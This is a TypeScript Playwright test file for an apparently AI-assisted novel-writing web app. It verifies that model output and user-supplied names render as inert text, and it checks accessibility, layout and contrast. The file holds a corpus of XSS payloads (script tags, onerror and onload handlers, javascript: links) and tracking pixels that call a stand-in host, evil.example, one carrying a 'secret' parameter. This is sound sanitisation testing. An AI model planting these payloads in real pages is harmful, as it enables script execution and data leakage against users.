import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Browser } from 'playwright-core'
import { namelessControls, poorContrasts } from './contrast.ts'
import { answered, composerOf, demoOf, lastAnswer, launch, newWriter, url } from './writer.ts'
import type { Named } from './writer.ts'

let browser: Browser
beforeAll(async () => {
  browser = await launch()
})
afterAll(async () => {
  await browser.close()
})

const beacon = 'https://evil.example/beacon'
const corpus = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror="window.__xss=1">',
  `<svg onload="window.__xss=1"><image href="${beacon}.svg"/></svg>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>" src="${beacon}"></iframe>`,
  `<style>@import url(${beacon}.css); body{background:url(${beacon}.png)}</style>`,
  '[click](javascript:window.__xss=1)',
  '[click](data:text/html,<script>window.__xss=1</script>)',
  `![pixel](${beacon}.png?secret=1)`,
  `![pixel][ref]\n\n[ref]: ${beacon}.png`,
  `<picture><source srcset="${beacon}.webp"><img srcset="${beacon}.png 2x"></picture>`,
  '<a href="javascript:window.__xss=1">x</a>',
  '<math><mtext><script>window.__xss=1</script></mtext></math>',
  `<link rel=stylesheet href="${beacon}.css"><meta http-equiv=refresh content="0;url=${beacon}">`,
]

describe('text from a model, a name, a title', () => {
  it('stays text: nothing runs, nothing is fetched, no link leads astray', async () => {
    const writer = await newWriter(browser)
    const { page, call, trouble } = writer
    const { novelId, threadId } = await demoOf(writer)
    const entry = await call<Named>('POST', `/novels/${novelId}/entries`, {
      type: 'lore',
      name: corpus[1],
      description: corpus.join('\n\n'),
      control: 'always',
      tags: [corpus[1]],
      aliases: [corpus[0]],
    })
    const thread = await call<{ version: number }>('GET', `/threads/${threadId}`)
    await call('PATCH', `/threads/${threadId}`, { version: thread.version, title: corpus[1] })
    await call('PATCH', '/me', { name: corpus[2] })
    await page.goto(`${url}/novels/${novelId}/workshop/${threadId}`)
    await composerOf(page).fill(corpus.slice(0, 3).join(' '))
    await composerOf(page).press('Control+Enter')
    await answered(page)
    // The demo repeats its prompt; the whole corpus becomes its answer as well.
    await page.route('**/api/v1/threads/*/messages*', async (route) => {
      const response = await route.fetch()
      const json = (await response.json()) as { items: { content: string }[] }
      json.items.at(-1)!.content = corpus.join('\n\n')
      await route.fulfill({ response, json })
    })
    await page.reload()
    await lastAnswer(page).getByText('window.__xss=1').first().waitFor()
    // All that the model wrote stands in paragraphs; the page's own links below them do not.
    const links = await lastAnswer(page)
      .locator('p a')
      .evaluateAll((found) =>
        found.map((link) => {
          return {
            href: (link as HTMLAnchorElement).protocol,
            rel: link.getAttribute('rel'),
            target: link.getAttribute('target'),
          }
        }),
      )
    expect(links.length).toBeGreaterThan(0)
    for (const link of links)
      expect(link).toEqual({ href: 'https:', rel: 'noopener noreferrer nofollow', target: '_blank' })
    expect(await lastAnswer(page).locator('img, iframe, script, style, link, meta, svg image, picture').count()).toBe(0)
    await page.getByRole('button', { name: 'What the AI was told' }).last().click()
    await page.getByText('Set to be always included.').first().waitFor()
    await page.goto(`${url}/novels/${novelId}/codex/${entry.id}`)
    await page.getByText('Preview', { exact: true }).click()
    await page.getByText('window.__xss=1').first().waitFor()
    expect(await page.evaluate(() => '__xss' in window)).toBe(false)
    expect(trouble).toEqual([])
    await writer.context.close()
  })

  it('would be noticed: a beacon planted by hand is reported', async () => {
    const writer = await newWriter(browser)
    await writer.page.goto(url)
    const noticed = writer.page.waitForEvent('console', (message) => message.text().includes('evil.example'))
    await writer.page.evaluate((source) => {
      const image = new Image()
      image.src = source
      document.body.append(image)
    }, `${beacon}.png`)
    await noticed
    expect(writer.trouble.length).toBeGreaterThan(0)
    await writer.context.close()
  })
})

const pagesOf = ({ novelId, threadId, entryId }: { novelId: string; threadId: string; entryId: string }) => [
  '/',
  `/novels/${novelId}/workshop/${threadId}`,
  `/novels/${novelId}/workshop/new`,
  `/novels/${novelId}/codex`,
  `/novels/${novelId}/codex/${entryId}`,
  `/novels/${novelId}/codex/new`,
  `/novels/${novelId}/graph`,
  `/novels/${novelId}/manuscript`,
  `/novels/${novelId}/manuscript/grid`,
  `/novels/${novelId}/transfer`,
  `/novels/${novelId}/tasks`,
  `/novels/${novelId}/presets`,
  `/novels/${novelId}/about`,
  '/settings/connections',
  '/settings/account',
  '/settings/usage',
  '/no/such/page',
]

describe('every page', () => {
  it('fits 360 px, names its controls, has one heading of the first rank, and can be read in light and dark', async () => {
    const writer = await newWriter(browser, { width: 360, height: 740 })
    const { page, call } = writer
    const demo = await demoOf(writer)
    const { items } = await call<{ items: Named[] }>('GET', `/novels/${demo.novelId}/entries`)
    const faults: string[] = []
    for (const path of pagesOf({ ...demo, entryId: items[0]!.id })) {
      await page.setViewportSize({ width: 360, height: 740 })
      await page.goto(url + path)
      await page.locator('h1:visible, main h2:visible, [aria-label="Name"]:visible').first().waitFor()
      // The channel of changes stays open: the network is never idle.
      await page.waitForFunction(() => document.querySelector('[aria-busy=true]') === null)
      for (const width of [360, 1280]) {
        await page.setViewportSize({ width, height: 800 })
        if (await page.evaluate(() => document.documentElement.scrollWidth > innerWidth))
          faults.push(`${path} at ${width}: wider than the window`)
        faults.push(...(await namelessControls(page)).map((control) => `${path}: no name: ${control}`))
        for (const colorScheme of ['light', 'dark'] as const) {
          await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' })
          await page.waitForFunction(
            (scheme) => document.documentElement.dataset['mantineColorScheme'] === scheme,
            colorScheme,
          )
          await page.waitForFunction(() =>
            document
              .getAnimations()
              .every((animation) => animation.playState !== 'running' || animation instanceof CSSAnimation),
          )
          faults.push(...(await poorContrasts(page)).map((text) => `${path} ${colorScheme}: ${text}`))
        }
      }
      if ((await page.locator('h1:visible').count()) > 1) faults.push(`${path}: more than one h1`)
    }
    expect([...new Set(faults)]).toEqual([])
    await writer.context.close()
  })
})
